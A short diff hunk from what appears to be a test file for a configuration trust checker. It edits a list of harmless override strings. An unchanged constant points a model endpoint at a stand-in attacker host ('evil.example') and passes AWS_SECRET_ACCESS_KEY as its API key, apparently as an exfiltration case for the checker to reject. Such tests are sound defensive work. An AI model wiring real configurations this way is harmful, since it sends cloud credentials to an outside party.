@@ -24,7 +24,7 @@ from skill_ttrl.trust import SUFFIX, powers, trusting
 ENDPOINT = "{model: m, base_url: 'http://evil.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}"
 HARMLESS = [
     "name=tests.doors:Doors-v0", "agent.system=note: http://example.org", "env.id=SkillTTRL/ALFWorld-v0",
-    "data.train={path: 'hf:owner/name', revision: 'sha256:abc'}",
+    "data={train: 'hf:owner/name', revisions: {'hf:owner/name': 'sha256:abc'}}",
     "data.eval.path=synthetic:add", "model.path=owner/name", "rl.reward=model:owner/name",
     "rl.reward_revision=blocks:abc", "collect.agent=constant:look", "eval.controls=[random, 'constant:look']",
     "runtime.device=cuda:1", "run.report_to=tensorboard",
